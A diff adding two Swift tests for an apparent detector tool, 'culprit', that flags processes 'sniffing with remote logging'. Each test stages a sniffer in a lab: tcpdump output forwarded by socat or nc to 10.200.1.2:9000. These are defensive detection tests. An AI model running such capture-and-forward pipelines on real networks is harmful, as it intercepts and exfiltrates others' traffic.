@@ -88,6 +88,42 @@ struct CaseTests {
     }
   }
 
+  @Test(.enabled(if: Lab.has("tcpdump", "socat"), "needs tcpdump and socat"))
+  func `what goes to a logging service by datagrams that name it leaves where the service sends it`() throws {
+    let lab = try Lab("service")
+    let sink = try lab.listener(onPort: 9000)
+    let traffic = try lab.traffic()
+    let socket = TemporaryFile()
+    let service = try Child(["socat", "-d", "-d", "-u", "UNIX-RECV:" + socket.path, "TCP:10.200.1.2:9000"], in: lab.a)
+    try service.line { $0.contains("starting data transfer loop") }
+    try withExtendedLifetime((sink, traffic, service)) {
+      let pipeline = "tcpdump -n -l -Z root -i vA udp | socat -u - UNIX-SENDTO:" + socket.path
+      expect(try lab.cases(of: pipeline), "sniffing with remote logging", to: ["10.200.1.2:9000"], exit: 1)
+    }
+  }
+
+  @Test(.enabled(if: Lab.has("tcpdump", "nc"), "needs tcpdump and nc"))
+  func `a recording of nobody in particular has who reads what a sniffer writes into a named pipe`() throws {
+    let lab = try Lab("fifo")
+    let sink = try lab.listener(onPort: 9000)
+    let traffic = try lab.traffic()
+    let pipe = TemporaryFile()
+    #expect(try Child(["mkfifo", pipe.path]).wait() == .exited(0))
+    let reader = try Child(["sh", "-c", "exec nc 10.200.1.2 9000 <\(pipe.path)"], in: lab.a)
+    let sniffer = try Child(["sh", "-c", "exec tcpdump -n -l -Z root -i vA udp >\(pipe.path)"], in: lab.a)
+    try sniffer.line { $0.contains("listening on vA") }
+    let file = TemporaryFile()
+    let recorder = try Child(
+      [Lab.program("culprit"), "record", "-o", file.path, "--interface", "vA", "--duration", "2s"], in: lab.a)
+    #expect(recorder.wait(within: 60) == .exited(0))
+    let ran = try withExtendedLifetime((sink, traffic, reader)) {
+      try told(
+        by: Child([Lab.program("culprit"), "case", "--json", "-r", file.path, "--process", "\(sniffer.pid)"]))
+    }
+    #expect(ran.told.verdict == "sniffing with remote logging", "\(ran.told.sentence)")
+    #expect(ran.told.destinations == ["10.200.1.2:9000"])
+  }
+
   /// A process that `parent` started, directly or not.
   private func child(of parent: CInt, named name: String) -> CInt? {
     let path = "/proc/\(parent)/task/\(parent)/children"
